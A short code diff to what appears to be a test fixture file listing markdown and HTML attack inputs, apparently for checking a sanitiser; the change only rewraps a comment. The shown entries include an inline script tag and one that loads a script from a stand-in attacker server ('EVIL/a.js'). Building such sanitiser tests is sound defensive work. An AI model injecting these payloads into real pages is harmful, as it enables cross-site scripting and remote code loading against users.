@@ -1,4 +1,7 @@
-/** Markdown and HTML that run, load, overlay or leak; EVIL stands for a server elsewhere. What runs would set `window.pwned`. */
+/**
+ * Markdown and HTML that run, load, overlay or leak; EVIL represents a server elsewhere. Scripts would set
+ * `window.pwned`.
+ */
 export const MARKDOWN_ATTACKS = [
   '<script>window.pwned=1</script>',
   '<script src="EVIL/a.js"></script>',
